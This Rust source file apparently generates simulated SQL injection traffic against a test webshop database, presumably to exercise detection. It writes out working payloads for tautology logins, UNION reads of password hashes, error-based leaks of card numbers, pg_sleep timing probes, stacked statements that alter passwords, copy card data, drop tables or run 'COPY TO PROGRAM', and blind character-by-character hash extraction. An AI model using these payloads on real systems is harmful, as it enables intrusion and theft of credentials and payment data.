//! SQL injection as the server sees it: an application that pastes its input into
//! simple queries, some ordinary ones around those of the attacker.

use crate::error::Result;
use crate::scenario::{Scenario, Stage};

const ATTRIBUTES: &str = "IN ROLE app_reader";

pub(super) fn all() -> Vec<Scenario> {
    let set = |slug, description, role, run| {
        Scenario::attack(slug, description, run)
            .technique(&["T1190"])
            .role(role, ATTRIBUTES)
            .application("webshop")
    };
    vec![
        set(
            "injection_tautology",
            "conditions that are always true, the rest cut off by a comment",
            "web_tautology",
            tautology,
        ),
        set(
            "injection_union",
            "UNION reads the catalogue and password hashes through a product search",
            "web_union",
            union,
        ),
        set(
            "injection_error",
            "casts that fail carry data out in the error message",
            "web_error",
            error_based,
        ),
        set(
            "injection_time",
            "pg_sleep answers yes-or-no questions",
            "web_time",
            time_based,
        ),
        set(
            "injection_stacked",
            "a second statement is smuggled in behind a semicolon",
            "web_stacked",
            stacked,
        )
        .own_shop()
        .prepare(
            "GRANT INSERT, UPDATE ON person.login, sales.customer TO web_stacked;
             GRANT CREATE ON SCHEMA public TO web_stacked",
        ),
        set(
            "injection_blind",
            "40 conditions ask for a hash character by character",
            "web_blind",
            blind,
        ),
    ]
}

/// A page view between the attempts.
fn browse(id: u32) -> String {
    format!("SELECT id, name, price FROM production.product WHERE id = {id}")
}

fn login(input: &str) -> String {
    format!(
        "SELECT p.id FROM person.person p JOIN person.login l ON l.person_id = p.id \
         WHERE p.last_name = '{input}' AND l.password_hash = md5('example')"
    )
}

fn search(input: &str) -> String {
    format!("SELECT name, price::text FROM production.product WHERE name = '{input}' ORDER BY name")
}

fn tautology(stage: &Stage<'_>) -> Result<()> {
    stage.connect()?.run_each([
        browse(1),
        login("Last1"),
        login("' OR '1'='1' --"),
        login("Last1' OR 1=1 -- "),
        login("x' OR 'a'='a' /*") + " */",
        browse(2),
        search("' OR 1=1 --"),
        search("' OR true --"),
        "SELECT id, name FROM production.product WHERE id = 1 OR 1=1".to_owned(),
    ])
}

fn union(stage: &Stage<'_>) -> Result<()> {
    let mut session = stage.connect()?;
    session.run(&search("Product 1"))?;
    session.fails("42601", &search("' UNION SELECT NULL --"))?;
    session.fails("42601", &search("' UNION SELECT NULL, NULL, NULL --"))?;
    session.run_each([
        search("' UNION SELECT NULL, NULL --"),
        search("' UNION SELECT version(), current_user --"),
        search("' UNION SELECT tablename, schemaname FROM pg_tables --"),
        search(
            "' UNION SELECT column_name, table_name FROM information_schema.columns \
             WHERE table_schema='person' --",
        ),
        search("x' UNION ALL SELECT person_id::text, password_hash FROM person.login --"),
    ])?;
    session.fails(
        "42501",
        &search("' UNION SELECT usename, passwd FROM pg_shadow --"),
    )
}

fn error_based(stage: &Stage<'_>) -> Result<()> {
    let mut session = stage.connect()?;
    session.run(&browse(7))?;
    for question in [
        "version()",
        "(SELECT password_hash FROM person.login LIMIT 1)",
        "(SELECT string_agg(tablename, ',') FROM pg_tables WHERE schemaname = 'sales')",
        "(SELECT card_number FROM sales.credit_card LIMIT 1)",
    ] {
        session.fails(
            "22P02",
            &search(&format!("' AND 1=CAST({question} AS int) --")),
        )?;
    }
    session.fails(
        "22P02",
        &search("' AND 1=CAST((CHR(126)||(SELECT current_database())||CHR(126)) AS numeric) --"),
    )?;
    session.fails("42601", &search("'"))?;
    session.run(&browse(8)).map(drop)
}

fn time_based(stage: &Stage<'_>) -> Result<()> {
    let mut session = stage.connect()?;
    session.run(&browse(3))?;
    for input in [
        "x'; SELECT pg_sleep(0.2) --",
        "x' OR (SELECT 1 FROM pg_sleep(0.2)) = 1 --",
        "x' OR 1 = (SELECT CASE WHEN (SELECT count(*) FROM person.login) > 100 \
         THEN (SELECT 1 FROM pg_sleep(0.2)) ELSE 1 END) --",
        "x' || (SELECT CASE WHEN current_user LIKE 'w%' THEN pg_sleep(0.2)::text ELSE '' END) || '",
    ] {
        session.run(&search(input))?;
    }
    Ok(())
}

fn stacked(stage: &Stage<'_>) -> Result<()> {
    let mut session = stage.connect()?;
    session.run_each([
        browse(4),
        search("x'; UPDATE person.login SET password_hash = md5('example') WHERE person_id = 1 --"),
        search("x'; UPDATE sales.customer SET credit_limit = 99999 WHERE id = 7; --"),
        search("x'; CREATE TABLE public.loot AS SELECT * FROM sales.credit_card; --"),
    ])?;
    session.fails("42501", &search("x'; DROP TABLE person.login CASCADE; --"))?;
    session.fails("42501", &search("x'; COPY (SELECT 1) TO PROGRAM 'id'; --"))
}

fn blind(stage: &Stage<'_>) -> Result<()> {
    let mut session = stage.connect()?;
    for n in 0..40_u32 {
        let (position, bound) = (n / 5 + 1, 40 + (n % 5) * 16);
        session.run(&search(&format!(
            "Product 1' AND ASCII(SUBSTRING((SELECT password_hash FROM person.login \
             LIMIT 1) FROM {position} FOR 1)) > {bound} AND '1'='1"
        )))?;
    }
    Ok(())
}
